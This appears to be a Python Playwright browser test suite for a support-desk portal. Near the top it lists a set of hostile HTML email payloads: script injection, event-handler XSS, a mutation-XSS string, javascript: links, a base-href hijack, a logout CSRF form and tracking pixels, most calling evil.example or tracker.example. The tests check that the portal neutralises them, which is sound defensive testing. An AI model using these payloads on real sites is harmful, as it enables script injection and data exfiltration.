"""The portal in a real browser: the daily way through it, and mails that want more than to be read."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import Browser, Page, expect

from store.records import Person
from tests.browser.conftest import Served
from tests.web.house import PASSWORD, PNG, furnish

pytestmark = pytest.mark.browser

PAYLOADS = (
    '<script>parent.document.title="owned";fetch("https://evil.example/s")</script>',
    '<img src=x onerror="fetch(\'https://evil.example/i\')"><svg onload="fetch(\'https://evil.example/v\')">',
    '<img src="https://tracker.example/pixel.png"><link rel=stylesheet href="https://tracker.example/a.css">',
    '<div style="background:url(https://tracker.example/bg)">x</div><style>@import "https://tracker.example/i"</style>',
    '<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o"></object>',
    '<form action="/logout" method=post><button autofocus>x</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<a href="javascript:fetch(\'https://evil.example/j\')">click</a><base href="https://evil.example/">',
    '<video src="https://tracker.example/v" autoplay></video><audio src="https://tracker.example/a" autoplay></audio>',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=fetch(`https://evil.example/m`)&gt;">',
    '<img src="/tickets/1/status"><img srcset="https://tracker.example/2x 2x">',
    '<picture><source srcset="https://tracker.example/s"></picture>',
    '<template><script>fetch("https://evil.example/t")</script></template>',
    '<noscript><p title="</noscript><script>fetch(1)</script>">',
)  # fmt: skip


@contextmanager
def window(
    chromium: Browser, served: Served, width: int = 1200, language: str = "en"
) -> Iterator[tuple[Page, list[str]]]:
    """A fresh window, and every address it asked for."""
    context = chromium.new_context(
        viewport={"width": width, "height": 900}, locale=language, accept_downloads=True
    )
    asked: list[str] = []
    page = context.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.goto(served.url)
    yield page, asked
    context.close()


def press(page: Page, selector: str) -> None:
    """Click on what leads to another page, and wait until that one is there."""
    with page.expect_navigation():
        page.click(selector)


def log_in(page: Page, person: Person) -> None:
    """Fill the form in."""
    page.fill("input[name=email]", person.email)
    page.fill("input[name=password]", PASSWORD)
    press(page, "main button")


def outside(asked: list[str], served: Served) -> list[str]:
    """What was asked of anybody else; pictures within the page are nobody else's."""
    return [url for url in asked if not url.startswith((served.url, "data:"))]


def test_a_customers_way(served: Served, chromium: Browser) -> None:
    """Log in, list, ticket, save a file, answer with a file: without any script of ours."""
    there = furnish(served.house.desk)
    served.house.give_password(there.owner)
    with window(chromium, served) as (page, asked):
        log_in(page, there.owner)
        press(page, "text=Printer on fire")
        with page.expect_download() as saved:
            page.click("text=answer.txt")
        assert saved.value.path().read_bytes() == b"public file"
        page.fill("textarea[name=text]", "It still burns")
        file = {"name": "smoke.png", "mimeType": "image/png", "buffer": b"picture"}
        page.set_input_files("input[type=file]", file)  # type: ignore[arg-type]
        press(page, "text=Send")
        assert page.locator("article").last.inner_text().count("It still burns") == 1
        assert page.locator("article").last.locator("text=smoke.png").count() == 1
        assert page.locator("script").count() == 0
        assert outside(asked, served) == []


def test_the_first_login(served: Served, chromium: Browser) -> None:
    """A one-time password leads to choosing one, and then to the tickets."""
    from gateway.desk.login import ensure_first_admin

    found = ensure_first_admin(served.house.desk.office, served.house.desk.now)
    assert found is not None
    with window(chromium, served) as (page, _):
        page.fill("input[name=email]", found[0].email)
        page.fill("input[name=password]", found[1])
        press(page, "main button")
        assert page.url == f"{served.url}/password"
        page.fill("input[name=new]", PASSWORD)
        page.fill("input[name=again]", PASSWORD)
        press(page, "main button")
        assert page.url == f"{served.url}/tickets"
        page.click("summary")
        press(page, "text=Log out")
        assert page.url == f"{served.url}/login"
        page.go_back()
        assert "/login" in page.url or page.locator("input[name=new]").count() == 0


def test_a_note_has_its_own_button(served: Served, chromium: Browser) -> None:
    """The second button of the form keeps the words inside, and takes no other way."""
    there = furnish(served.house.desk)
    served.house.give_password(there.agent)
    with window(chromium, served) as (page, _):
        log_in(page, there.agent)
        page.goto(f"{served.url}/tickets/{there.ticket}")
        page.fill("textarea[name=text]", "For us only")
        press(page, "text=Keep as note for staff")
        assert page.locator("article.note", has_text="For us only").count() == 1
    assert all("For us only" not in item.letter.text
               for item in served.house.desk.letters_to(there.owner.email))  # fmt: skip


def hostile_mail(payload: str, number: int) -> bytes:
    """A mail whose HTML wants more than to be read."""
    return (
        f"From: eve@example.net\r\nTo: support@desk.example\r\nSubject: payload {number}\r\n"
        f"Message-ID: <p{number}@example.net>\r\nDate: Mon, 23 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Words</p>{payload}<p>end</p>\r\n"
    ).encode()


def test_mail_html_does_nothing(served: Served, chromium: Browser) -> None:
    """No mail runs a script, asks another host for anything, leaves its frame or does something in our name."""
    desk = served.house.desk
    there = furnish(desk)
    served.house.give_password(there.agent)
    items = [
        desk.receive(hostile_mail(payload, n), sender="eve@example.net")
        for n, payload in enumerate(PAYLOADS)
    ]
    with window(chromium, served) as (page, asked):
        log_in(page, there.agent)
        for item in items:
            path = f"{served.url}/tickets/{item.ticket_id}"
            page.goto(path)
            page.click("details.html summary")
            frame = page.frame_locator("iframe")
            expect(frame.locator("body")).to_contain_text("Words")
            page.wait_for_load_state("networkidle")
            assert page.url == path
            assert page.title() != "owned"
            assert page.locator("summary", has_text="Anna").count() == 1
        for item in items:
            html = desk.ticket(item.ticket_id or 0).messages[0].id
            page.goto(f"{served.url}/messages/{html}/html")
            page.wait_for_load_state("networkidle")
        assert outside(asked, served) == []
        page.goto(f"{served.url}/tickets")
        assert page.locator("summary", has_text="Anna").count() == 1


def test_a_picture_of_the_mail_is_shown(served: Served, chromium: Browser) -> None:
    """What the mail brought along stands in its frame; what it would fetch does not."""
    there = furnish(served.house.desk)
    served.house.give_password(there.owner)
    with window(chromium, served) as (page, asked):
        log_in(page, there.owner)
        page.goto(f"{served.url}/tickets/{there.ticket}")
        page.click("details.html summary")
        pictures = page.frame_locator("iframe").locator("img[src]")
        pictures.first.wait_for()
        assert pictures.count() == 1
        assert pictures.first.get_attribute("src") == f"data:image/png;base64,{PNG}"
        assert pictures.first.evaluate("picture => picture.naturalWidth") == 8
        assert outside(asked, served) == []


@pytest.mark.parametrize(("width", "language"), [(360, "de"), (360, "en"), (1200, "de")])
def test_pages_fit_their_window(
    served: Served, chromium: Browser, width: int, language: str
) -> None:
    """On a phone nothing runs out to the side, in both languages; every field has a name that can be read out."""
    desk = served.house.desk
    there = furnish(desk)
    desk.receive(desk.mail("kim@example.com", "W" * 120, "https://example.com/" + "a" * 300),
                 sender="kim@example.com")  # fmt: skip
    served.house.give_password(there.agent)
    paths = ["/tickets?status=all", "/tickets/new", f"/tickets/{there.ticket}", "/inbox", "/outbox",
             f"/inbox/{there.held}", f"/outbox/{there.letter}", "/password", "/nothing"]  # fmt: skip
    newest = desk.tickets()[0].ticket.id
    with window(chromium, served, width, language) as (page, _):
        assert ("Anmelden" in page.inner_text("h1")) is (language == "de")
        log_in(page, there.agent)
        for path in [*paths, f"/tickets/{newest}", f"/outbox/{desk.outbox()[-1].id}"]:
            page.goto(served.url + path)
            wide = page.evaluate("document.documentElement.scrollWidth")
            assert wide <= width, path
            fields = page.locator("input:not([type=hidden]):not(.hidden), select, textarea")
            for number in range(fields.count()):
                field = fields.nth(number)
                label = field.evaluate(
                    "f => f.labels && f.labels.length ? f.labels[0].innerText : ''"
                )
                assert re.search(r"\w", label), (path, field)
